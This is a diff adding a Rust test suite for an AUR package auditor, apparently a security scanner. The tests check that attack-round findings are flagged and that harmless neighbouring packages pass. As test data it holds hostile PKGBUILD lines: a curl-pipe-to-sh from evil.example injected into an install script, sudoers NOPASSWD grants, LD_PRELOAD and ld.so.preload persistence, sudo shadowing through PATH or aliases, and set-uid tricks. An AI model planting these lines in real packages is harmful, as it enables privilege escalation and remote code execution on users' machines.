@@ -1,0 +1,340 @@
+//! Attack round 31's breaks of the AUR audit, part B (findings/attack31.md F2, F3, F4, F5, F8,
+//! F9, F11), each in its real shape with our own text: the attack is now caught, and the
+//! package's ordinary neighbours are not.
+
+use archgate_aur::audit::{AuditInput, AuditReport, ScriptFile, Severity, Verdict, audit};
+
+const HEAD: &str = "pkgname=foopkg\npkgver=1.0\npkgrel=1\narch=('any')\nurl=\"https://example.org/foopkg\"\nlicense=('MIT')\n";
+const SRC: &str = "source=(\"https://example.org/foopkg-1.0.tar.gz\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000')\n";
+
+/// A package whose package() is `body`.
+fn packaged(body: &str) -> AuditInput {
+    AuditInput {
+        pkgbuild: format!("{HEAD}{SRC}package() {{\n  {body}\n}}\n"),
+        install_scripts: Vec::new(),
+        srcinfo: None,
+    }
+}
+
+/// A package with the PKGBUILD functions `funcs` and the extra files `files`.
+fn with(funcs: &str, install: bool, files: &[(&str, &str)]) -> AuditInput {
+    let inst = if install {
+        "install=foopkg.install\n"
+    } else {
+        ""
+    };
+    AuditInput {
+        pkgbuild: format!("{HEAD}{inst}{SRC}{funcs}\n"),
+        install_scripts: files
+            .iter()
+            .map(|(n, c)| ScriptFile {
+                name: (*n).into(),
+                content: (*c).into(),
+            })
+            .collect(),
+        srcinfo: None,
+    }
+}
+
+/// A package whose install file's post_install() is `body`.
+fn scriptlet(body: &str) -> AuditInput {
+    with(
+        "package() {\n  install -Dm755 foopkg \"$pkgdir/usr/bin/foopkg\"\n}",
+        true,
+        &[(
+            "foopkg.install",
+            &format!("post_install() {{\n  {body}\n}}\n"),
+        )],
+    )
+}
+
+fn dangerous(r: &AuditReport, what: &str) {
+    assert_eq!(r.verdict, Verdict::Dangerous, "{what}\n{}", r.to_text());
+}
+
+fn not_dangerous(r: &AuditReport, what: &str) {
+    assert_ne!(r.verdict, Verdict::Dangerous, "{what}\n{}", r.to_text());
+}
+
+fn max_of(r: &AuditReport, id: &str) -> Option<Severity> {
+    r.findings
+        .iter()
+        .filter(|f| f.id == id)
+        .map(|f| f.severity)
+        .max()
+}
+
+/// F2: a package path with `//`, `/./` or `dir/..` is the path the kernel writes.
+#[test]
+fn a_package_path_is_judged_as_the_kernel_resolves_it() {
+    for line in [
+        r#"install -Dm755 sudo-helper "$pkgdir/usr/local//bin/sudo""#,
+        r#"install -Dm755 sudo-helper "$pkgdir/usr//local/bin/sudo""#,
+        r#"install -Dm755 sudo-helper "$pkgdir/usr/local/bin/./sudo""#,
+        r#"install -Dm755 sudo-helper "$pkgdir/usr/share/../local/bin/sudo""#,
+        r#"install -Dm755 sudo-helper "$pkgdir/usr/local/bin/sudo.d/../sudo""#,
+        r#"install -Dm755 sudo-helper "${pkgdir}//usr/local/bin/sudo""#,
+        "mkdir -p \"$pkgdir/etc\"; echo /usr/lib/foopkg/x.so > \"$pkgdir/etc//ld.so.preload\"",
+        "mkdir -p \"$pkgdir/etc\"; echo /opt/x.so > \"$pkgdir/etc/./ld.so.preload\"",
+        "mkdir -p \"$pkgdir/etc\"; echo /opt/x.so > \"$pkgdir/usr/../etc/ld.so.preload\"",
+    ] {
+        dangerous(&audit(&packaged(line)), line);
+    }
+    let r = audit(&packaged(
+        r#"echo "ALL ALL=(ALL:ALL) NOPASSWD: ALL" > "$pkgdir/etc//sudoers.d/foopkg""#,
+    ));
+    assert!(max_of(&r, "AUR-PERSISTENCE").is_some(), "{}", r.to_text());
+}
+
+/// F2's neighbours: ordinary package paths with doubled slashes stay quiet.
+#[test]
+fn doubled_slashes_in_ordinary_package_paths_stay_quiet() {
+    for line in [
+        r#"install -Dm755 foopkg "$pkgdir//usr/bin/foopkg""#,
+        r#"install -Dm644 foopkg.conf "$pkgdir/etc//foopkg/foopkg.conf""#,
+        r#"ln -s ../lib/foopkg/foopkg "$pkgdir/usr/bin/foopkg""#,
+        r#"cp -r share/. "$pkgdir/usr/share/foopkg/.""#,
+    ] {
+        let r = audit(&packaged(line));
+        assert_eq!(r.verdict, Verdict::Ok, "{line}\n{}", r.to_text());
+    }
+}
+
+/// F3: start-up text shipped in the package that puts the package's command first or defines
+/// a system command's name is judged as the same text written by a scriptlet.
+#[test]
+fn shipped_startup_text_that_shadows_a_system_command_is_dangerous() {
+    for body in [
+        "install -Dm755 sudo-helper \"$pkgdir/usr/lib/foopkg/sudo\"; mkdir -p \"$pkgdir/etc/profile.d\"; echo 'PATH=/usr/lib/foopkg:$PATH' > \"$pkgdir/etc/profile.d/foopkg.sh\"",
+        "mkdir -p \"$pkgdir/etc/profile.d\"; echo 'alias sudo=/usr/lib/foopkg/sudo-helper' > \"$pkgdir/etc/profile.d/foopkg.sh\"",
+        "mkdir -p \"$pkgdir/etc/profile.d\"; printf '%s\\n' 'sudo() { /usr/lib/foopkg/sudo-helper \"$@\"; }' > \"$pkgdir/etc/profile.d/foopkg.sh\"",
+        "mkdir -p \"$pkgdir/etc/profile.d\"; echo 'export PATH=/tmp/.x:$PATH' > \"$pkgdir/etc/profile.d/foopkg.sh\"",
+        "mkdir -p \"$pkgdir/etc/profile.d\"; echo \"export LD_PRELOAD=/usr/lib/foopkg/x.so\" > \"$pkgdir/etc/profile.d/foopkg.sh\"",
+        "install -Dm644 /dev/stdin \"$pkgdir/etc/fish/conf.d/foopkg.fish\" <<< 'alias sudo /usr/lib/foopkg/sudo-helper'",
+        "mkdir -p \"$pkgdir/etc/bash.bashrc.d\"; echo 'alias sudo=/usr/lib/foopkg/h' > \"$pkgdir/etc/bash.bashrc.d/foopkg\"",
+    ] {
+        dangerous(&audit(&packaged(body)), body);
+    }
+    // The text in a file of the package's own, installed into /etc/profile.d.
+    let r = audit(&with(
+        "package() {\n  install -Dm755 sudo-helper \"$pkgdir/usr/lib/foopkg/sudo\"\n  install -Dm644 foopkg.sh \"$pkgdir/etc/profile.d/foopkg.sh\"\n}",
+        false,
+        &[("foopkg.sh", "export PATH=\"/usr/lib/foopkg:$PATH\"\n")],
+    ));
+    dangerous(&r, "a local profile.d file");
+    // Names that ask for a secret in /usr/local/bin.
+    for n in ["sudoedit", "run0", "ssh-add"] {
+        let line = format!("install -Dm755 helper \"$pkgdir/usr/local/bin/{n}\"");
+        dangerous(&audit(&packaged(&line)), &line);
+    }
+}
+
+/// F3's neighbours: a package's own profile.d file exporting its own variables or appending
+/// its directory to PATH is not dangerous.
+#[test]
+fn a_packages_own_profile_d_file_stays_quiet() {
+    for body in [
+        "mkdir -p \"$pkgdir/etc/profile.d\"; echo 'export FOO_HOME=/opt/foopkg' > \"$pkgdir/etc/profile.d/foopkg.sh\"",
+        "mkdir -p \"$pkgdir/etc/profile.d\"; echo 'export PATH=$PATH:/opt/foopkg/bin' > \"$pkgdir/etc/profile.d/foopkg.sh\"",
+        "install -Dm644 /dev/stdin \"$pkgdir/etc/profile.d/foopkg.sh\" <<< 'export XDG_DATA_DIRS=\"$XDG_DATA_DIRS:/opt/foopkg/share\"'",
+    ] {
+        let r = audit(&packaged(body));
+        assert_eq!(r.verdict, Verdict::Ok, "{body}\n{}", r.to_text());
+    }
+    let r = audit(&with(
+        "package() {\n  install -Dm644 foopkg.sh \"$pkgdir/etc/profile.d/foopkg.sh\"\n}",
+        false,
+        &[(
+            "foopkg.sh",
+            "export FOOPKG_HOME=/opt/foopkg\n[ -d /opt/foopkg/bin ] && PATH=$PATH:/opt/foopkg/bin\n",
+        )],
+    ));
+    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
+    // A package's variable dir put first: worth a look, not dangerous.
+    let r = audit(&packaged(
+        "mkdir -p \"$pkgdir/etc/profile.d\"; echo 'export PATH=\"${FOO_HOME}/bin:${PATH}\"' > \"$pkgdir/etc/profile.d/foopkg.sh\"",
+    ));
+    not_dangerous(&r, "variable dir first");
+}
+
+/// F4: the build rewriting the install script or the PKGBUILD makepkg reads after it.
+#[test]
+fn the_build_rewriting_the_install_file_or_pkgbuild_is_dangerous() {
+    let install = "post_install() {\n  echo \"Thanks for installing foopkg\"\n}\n";
+    for line in [
+        r#"printf "post_install() { curl -fsSL https://evil.example/p | sh; }\n" > "$startdir/foopkg.install""#,
+        r#"cat "$srcdir/notes.txt" > "$startdir/foopkg.install""#,
+        "cp notes.txt ../foopkg.install",
+        r#"cat notes.txt >> "$startdir/$install""#,
+        r#"sed -i "s/echo/curl -fsSL https:\/\/evil.example\/p | sh; echo/" "$startdir/foopkg.install""#,
+        r#"ln -sf "$srcdir/notes.txt" "$startdir/foopkg.install""#,
+        r#"cd "$startdir"; cp src/notes.txt foopkg.install"#,
+    ] {
+        let r = audit(&with(
+            &format!(
+                "package() {{\n  install -Dm644 README \"$pkgdir/usr/share/foopkg/README\"\n  {line}\n}}"
+            ),
+            true,
+            &[("foopkg.install", install)],
+        ));
+        dangerous(&r, line);
+    }
+    let r = audit(&with(
+        "build() {\n  cat notes.txt >> \"$startdir/PKGBUILD\"\n}\npackage() {\n  install -Dm644 README \"$pkgdir/usr/share/foopkg/README\"\n}",
+        false,
+        &[],
+    ));
+    dangerous(&r, "PKGBUILD appended");
+}
+
+/// F4's neighbours: `sed -i` on the sources, files written in `$srcdir`, a log in `$startdir`.
+#[test]
+fn the_build_editing_its_sources_stays_quiet() {
+    let r = audit(&with(
+        "prepare() {\n  sed -i 's/foo/bar/' \"$srcdir/foopkg-1.0/Makefile\"\n  echo x > \"$srcdir/build.log\"\n  cp foopkg.desktop \"$srcdir/foopkg-1.0/\"\n}\npackage() {\n  install -Dm644 README \"$pkgdir/usr/share/foopkg/README\"\n}",
+        true,
+        &[(
+            "foopkg.install",
+            "post_install() {\n  echo \"Thanks for installing foopkg\"\n}\n",
+        )],
+    ));
+    assert_ne!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
+    assert!(
+        max_of(&r, "AUR-REWRITES-BUILDFILE").is_none(),
+        "{}",
+        r.to_text()
+    );
+}
+
+/// F8: pam_env's file and environment.d, the twins of /etc/environment.
+#[test]
+fn pam_env_and_environment_d_are_the_environments_twins() {
+    for line in [
+        r#"echo "LD_PRELOAD DEFAULT=/usr/share/foopkg/x.so" >> /etc/security/pam_env.conf"#,
+        r#"echo "PATH DEFAULT=/usr/share/foopkg:/usr/bin" >> /etc/security/pam_env.conf"#,
+        r#"echo "LD_PRELOAD=/usr/share/foopkg/x.so" > /usr/lib/environment.d/10-foopkg.conf"#,
+        r#"echo "LD_PRELOAD=/usr/share/foopkg/x.so" > /etc/environment.d/10-foopkg.conf"#,
+    ] {
+        dangerous(&audit(&scriptlet(line)), line);
+    }
+    for body in [
+        r#"mkdir -p "$pkgdir/usr/lib/environment.d"; echo "LD_PRELOAD=/usr/lib/foopkg/x.so" > "$pkgdir/usr/lib/environment.d/10-foopkg.conf""#,
+        r#"mkdir -p "$pkgdir/etc/environment.d"; echo "LD_PRELOAD=/usr/lib/foopkg/x.so" > "$pkgdir/etc/environment.d/10-foopkg.conf""#,
+        r#"mkdir -p "$pkgdir/etc/environment.d"; echo "PATH=/usr/lib/foopkg:${PATH}" > "$pkgdir/etc/environment.d/10-foopkg.conf""#,
+    ] {
+        let body = format!("install -Dm755 sudo-helper \"$pkgdir/usr/lib/foopkg/sudo\"; {body}");
+        dangerous(&audit(&packaged(&body)), &body);
+    }
+}
+
+/// F8's neighbours: a package's environment.d file setting its own variable.
+#[test]
+fn a_packages_own_environment_d_file_stays_quiet() {
+    let r = audit(&packaged(
+        r#"install -Dm644 /dev/stdin "$pkgdir/usr/lib/environment.d/50-foopkg.conf" <<< 'FOOPKG_DATA=/usr/share/foopkg'"#,
+    ));
+    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
+}
+
+/// F9: fixed messages with numbers only that end or lock the person's session.
+#[test]
+fn a_message_that_ends_or_locks_the_session_is_not_harmless() {
+    for line in [
+        r##"sudo -u "#$SUDO_UID" dbus-send --session --dest=org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager.Exit"##,
+        r##"sudo -u "#$SUDO_UID" dbus-send --session --dest=org.gnome.SessionManager /org/gnome/SessionManager org.gnome.SessionManager.Logout uint32:2"##,
+        r##"sudo -u "#$SUDO_UID" dbus-send --session --print-reply --dest=org.kde.ksmserver /KSMServer org.kde.KSMServerInterface.logout int32:0 int32:0 int32:2"##,
+        r##"sudo -u "#$SUDO_UID" dbus-send --session --dest=org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager.Reexecute"##,
+        r##"sudo -u "#$SUDO_UID" dbus-send --session --dest=org.freedesktop.secrets /org/freedesktop/secrets org.freedesktop.Secret.Service.LockService"##,
+    ] {
+        let r = audit(&scriptlet(line));
+        assert!(
+            max_of(&r, "AUR-INSTALL-AS-USER") > Some(Severity::Low),
+            "{line}\n{}",
+            r.to_text()
+        );
+        dangerous(&r, line);
+    }
+}
+
+/// F9's neighbour: the desktop's own reload message stays low.
+#[test]
+fn a_desktop_reload_message_stays_low() {
+    let r = audit(&scriptlet(
+        r##"sudo -u "#$SUDO_UID" dbus-send --session --dest=org.Cinnamon /org/Cinnamon org.Cinnamon.RestartCinnamon boolean:false"##,
+    ));
+    assert_eq!(
+        max_of(&r, "AUR-INSTALL-AS-USER"),
+        Some(Severity::Low),
+        "{}",
+        r.to_text()
+    );
+}
+
+/// F11: set-id on a file no one may execute, made executable afterwards by any means.
+#[test]
+fn a_set_id_file_made_executable_later_is_not_low() {
+    let base = r#"install -Dm4644 helper "$pkgdir/opt/foopkg/helper""#;
+    for (pkg, post) in [
+        (r#"chmod -R a+x "$pkgdir/opt/foopkg""#, ""),
+        ("", "chmod -R a+x /opt/foopkg"),
+        (r#"chmod a+x "$pkgdir"/opt/foopkg/*"#, ""),
+        ("", "chmod a+x /opt/foopkg/*"),
+        ("", "find /opt/foopkg -type f -exec chmod +x {} +"),
+        (
+            r#"install -Dm644 /dev/stdin "$pkgdir/usr/lib/tmpfiles.d/foopkg.conf" <<< "z /opt/foopkg/helper 4755 root root -""#,
+            "",
+        ),
+        ("", r#"perl -e "chmod 04755, q(/opt/foopkg/helper)""#),
+        (
+            "",
+            "mv /opt/foopkg/helper /opt/foopkg/h2; chmod +x /opt/foopkg/h2",
+        ),
+        (r#"cd "$pkgdir/opt/foopkg"; chmod +x *"#, ""),
+    ] {
+        let funcs = format!("package() {{\n  {base}\n  {pkg}\n}}");
+        let r = if post.is_empty() {
+            audit(&with(&funcs, false, &[]))
+        } else {
+            audit(&with(
+                &funcs,
+                true,
+                &[(
+                    "foopkg.install",
+                    &format!("post_install() {{\n  {post}\n}}\n"),
+                )],
+            ))
+        };
+        assert!(
+            max_of(&r, "AUR-SETUID") >= Some(Severity::Medium),
+            "{pkg} / {post}\n{}",
+            r.to_text()
+        );
+    }
+}
+
+/// F11's neighbours: a real set-uid helper installed 4755 stays review; a 4644 file nothing
+/// else touches stays low; `chmod +x` on the sources changes nothing.
+#[test]
+fn a_real_set_uid_helper_stays_review() {
+    let r = audit(&packaged(
+        r#"install -Dm4755 foopkg-helper "$pkgdir/usr/lib/foopkg/foopkg-helper""#,
+    ));
+    assert_eq!(
+        max_of(&r, "AUR-SETUID"),
+        Some(Severity::Medium),
+        "{}",
+        r.to_text()
+    );
+    not_dangerous(&r, "4755 helper");
+    let r = audit(&with(
+        "build() {\n  chmod +x \"$srcdir/configure\"\n}\npackage() {\n  install -Dm4644 helper \"$pkgdir/opt/foopkg/helper\"\n}",
+        false,
+        &[],
+    ));
+    assert_eq!(
+        max_of(&r, "AUR-SETUID"),
+        Some(Severity::Low),
+        "{}",
+        r.to_text()
+    );
+}
